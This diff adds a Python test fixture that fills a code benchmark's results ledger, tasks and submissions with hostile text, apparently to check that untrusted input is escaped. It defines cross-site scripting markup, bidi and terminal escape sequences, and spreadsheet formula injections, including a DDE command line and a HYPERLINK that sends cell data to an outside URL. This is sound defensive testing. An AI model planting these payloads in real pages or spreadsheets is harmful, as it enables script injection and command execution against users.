@@ -1,0 +1,206 @@
+"""A ledger in which every text that comes from somebody else tries something."""
+
+import datetime
+from dataclasses import dataclass
+from pathlib import Path
+
+from benchmark.core.sample import Completion
+from benchmark.core.task import FunctionCheck, Task, Text
+from benchmark.core.verdict import Status, Verdict
+from benchmark.files.atomic import write_atomic
+from benchmark.files.tasks import write_tasks
+from benchmark.pipeline.evaluate import Evaluation
+from benchmark.pipeline.record import Identity, add, make_row
+from benchmark.results.ledger import write_row
+from benchmark.results.retraction import retraction_of, write_retraction
+from benchmark.results.row import RowSubmission, row_id
+from benchmark.results.status import RunStatus, status_bytes, status_path
+from benchmark.scoring.summary import summarise
+
+#: Sets a variable of the page when any of it is run or loaded.
+MARKUP = (
+    "</script></pre></textarea><script>hacked=1</script><img src=x onerror=hacked=1>"
+    "<a href='javascript:hacked=1'>x</a><b style=position:fixed>bold</b>&lt;i&gt;{{ 7*7 }}{% raw %}"
+)
+BIDI = "\u202eevil\u202c\u2066\u200f"  #: writes from right to left from here on
+TERMINAL = (
+    "\x1b]0;hacked\x07\x1b[31mred\x1b[0m\x9b2J\x00\x08"  #: names the window, colours, clears the screen
+)
+FORMULAS = ('=HYPERLINK("https://example.net/?"&A1,"x")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1)", "\t=1+1")
+LONG = "W" * 10_000
+ALL = MARKUP + BIDI + TERMINAL
+_FENCE = "```"
+_CODE = f"def f(x):\n    return {FORMULAS!r}, {LONG!r}"
+_SHORT = 190  #: characters of a name that rows hold
+_NAME = (MARKUP[:110] + BIDI + TERMINAL + "W" * _SHORT)[:_SHORT]
+
+
+@dataclass(frozen=True, slots=True)
+class Hostile:
+    """What was made."""
+
+    folder: Path  #: with ``results``, ``submissions``, ``status``
+    tasks: Path  #: a task file
+    slugs: tuple[str, ...]
+
+
+def hostile_ledger(folder: Path) -> Hostile:
+    """Rows on a data set of somebody's own, one withdrawn, a run without a row, and a submission."""
+    tasks = tuple(
+        _task(number, name) for number, name in enumerate(("plain", _printable(_NAME), *FORMULAS[:4]))
+    )
+    write_tasks(folder / "tasks.jsonl", tasks)
+    slugs = ("markup", "formula", "long", "gone")
+    names = (_NAME, FORMULAS[0], "W" * 200, MARKUP[:200])
+    for slug, name in zip(slugs, names, strict=True):
+        row, files = make_row(_evaluation(tasks, slug), _identity(slug, name))
+        run = row.run.model_copy(
+            update={
+                "links": {
+                    ALL: "javascript:hacked=1",
+                    MARKUP: f"https://example.com/?{MARKUP}",
+                    "log": "data:,x",
+                },
+                "commit": MARKUP,
+                "missing": {ALL: ALL},
+                "machine": row.run.machine.model_copy(update={"system": ALL + LONG}),
+            }
+        )
+        add(folder / "results", row.model_copy(update={"run": run}), files)
+        if slug == "gone":
+            write_retraction(
+                folder / "results",
+                retraction_of(
+                    row,
+                    reason=_printable(MARKUP),
+                    date="2026-05-06T07:08:09Z",
+                    by=_printable(MARKUP)[:200],
+                    link="https://example.com/?<script>",
+                    named="test",
+                ),
+            )
+    _without_files(folder, tasks)
+    status = RunStatus.model_validate(
+        {
+            "slug": "waits",
+            "suite": "humaneval-v",
+            "dataset": "open",
+            "setting": ALL,
+            "protocol": ALL,
+            "prompt": LONG,
+            "request": "a" * 64,
+            "config": "b" * 64,
+            "state": "failed",
+            "stage": "generate",
+            "reason": _printable(MARKUP)[:500],
+            "when": "2026-05-06T07:08:09Z",
+            "links": {ALL: "javascript:hacked=1"},
+        }
+    )
+    write_atomic(status_path(folder / "status", status), status_bytes(status))
+    submission = f"schema: sightbench/submission/1\nslug: markup\nname: {_printable(MARKUP)!r}\nruns: []\n"
+    write_atomic(folder / "submissions" / "markup" / "submission.yaml", submission.encode())
+    return Hostile(folder, folder / "tasks.jsonl", slugs)
+
+
+def _without_files(folder: Path, tasks: tuple[Task, ...]) -> None:
+    """A row whose tasks have names of 10,000 characters; no file of ours could hold such lines."""
+    row, _ = make_row(_evaluation(tasks, "names"), _identity("names", "Names"))
+    statuses = {f"{name}{LONG}": ["passed"] for name in (*FORMULAS, MARKUP, BIDI, TERMINAL)}
+    result = row.result.model_copy(
+        update={
+            "suite": "humaneval-v",
+            "statuses": statuses,
+            "setting": ALL,
+            "protocol": FORMULAS[0],
+            "tasks": row.result.tasks.model_copy(
+                update={
+                    "count": len(statuses),
+                    "categories": {
+                        f"category:{MARKUP}{BIDI}": list(statuses)[:3],
+                        "subset:=1+1": list(statuses),
+                    },
+                    "stems": dict.fromkeys(statuses, MARKUP + LONG),
+                }
+            ),
+            "scores": [
+                row.result.scores[0].model_copy(update={"category": f"category:{MARKUP}{BIDI}"}),
+                row.result.scores[0].model_copy(update={"metric": "pass@1", "value": 1.0, "high": 1.0}),
+            ],
+        }
+    )
+    run = row.run.model_copy(update={"completions_file": None, "verdicts_file": None})
+    write_row(folder / "results", row.model_copy(update={"id": row_id(result), "result": result, "run": run}))
+
+
+def _printable(text: str) -> str:
+    return "".join(one for one in text if one.isprintable()).strip()
+
+
+def _identity(slug: str, name: str) -> Identity:
+    return Identity(
+        submission=RowSubmission(slug=slug, name=name, organisation=_NAME, weights="open"),
+        suite="somebodys-own",
+        suite_version=1,
+        dataset="custom",
+        setting=ALL,
+        protocol=ALL,
+        prompt=MARKUP + LONG,
+    )
+
+
+def _task(number: int, name: str) -> Task:
+    return Task(
+        id=name,
+        suite="somebodys-own",
+        dataset="custom",
+        stem=f"stem {number // 2} {_printable(MARKUP)}"[:200],
+        parts=(Text(text=ALL + LONG),),
+        entry_point="f",
+        starter_code=f"# {ALL}\ndef f(x):\n    ...\n",
+        check=FunctionCheck(tests=(f"assert f(1) == {number}, {MARKUP!r}",)),
+        categories=(_printable(MARKUP)[:200],),
+        description=ALL,
+        reference=f"# {MARKUP}\ndef f(x):\n    return {number}\n",
+    )
+
+
+def _evaluation(tasks: tuple[Task, ...], slug: str) -> Evaluation:
+    kinds = (Status.WRONG_ANSWER, Status.RUNTIME_ERROR, Status.PASSED)
+    outcomes = tuple(
+        Verdict(
+            task_id=task.id,
+            draw=0,
+            status=kinds[number % 3],
+            detail=""
+            if number % 3 == 2
+            else f"assert f(1) == {number}; f(1) gave {MARKUP}{BIDI}{LONG[:1500]}",
+            exception=MARKUP if number % 3 == 1 else "",
+        )
+        for number, task in enumerate(tasks)
+    )
+    return Evaluation(
+        tasks=tasks,
+        completions=tuple(
+            Completion(
+                task_id=task.id,
+                draw=0,
+                text=f"{slug} {ALL}\n{_FENCE}python\n# {ALL}\n{_CODE}\n{_FENCE}",
+                tokens_out=10**12,
+                cost_usd=1e9,
+                seconds=1e9,
+                model=_printable(MARKUP)[:200],
+            )
+            for task in tasks
+        ),
+        extraction="own",
+        samples=(),
+        outcomes=outcomes,
+        scores=summarise(tasks, outcomes),
+        guest={"python": ALL},
+        executor=ALL,
+        workers=1,
+        time_factor=1.0,
+        started=datetime.datetime(2026, 2, 3, tzinfo=datetime.UTC),
+        seconds=1.0,
+    )
